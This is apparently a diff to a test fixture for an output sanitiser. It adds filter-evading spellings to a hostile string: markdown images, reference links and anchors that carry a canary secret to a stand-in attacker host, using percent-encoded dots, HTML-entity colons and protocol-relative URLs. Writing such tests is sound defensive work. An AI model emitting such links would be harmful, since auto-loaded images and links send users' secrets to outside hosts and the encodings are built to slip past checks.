@@ -31,7 +31,10 @@ _EVIL = "https://evil.example"
 HOSTILE = (
     f"Done. See [the page]({_EVIL}/?d={CANARY}) and ![]({_EVIL}/{CANARY}.png)\n\n"
     f"[r]: {_EVIL}/r/{CANARY}\n\nAlso {_EVIL}/{CANARY} and e**vil.**example/{CANARY}\n\n"
-    f"<a href='{_EVIL}/{CANARY}'>here</a>"
+    f"<a href='{_EVIL}/{CANARY}'>here</a>\n\n"
+    # Spellings that nobody thinks of.
+    f"![x](<https&#58;//evil%2Ecom/?s={CANARY}> (t)) ![y](//evil%2Ecom/{CANARY} (t)) ![^b]\n\n"
+    f"[^b]: //evil%2Ecom/?s={CANARY}"
 )
 HARMLESS = "Done. See [the page](https://docs.example/page)."
 PRIVATE = f"The pass phrase is {CANARY}\n"
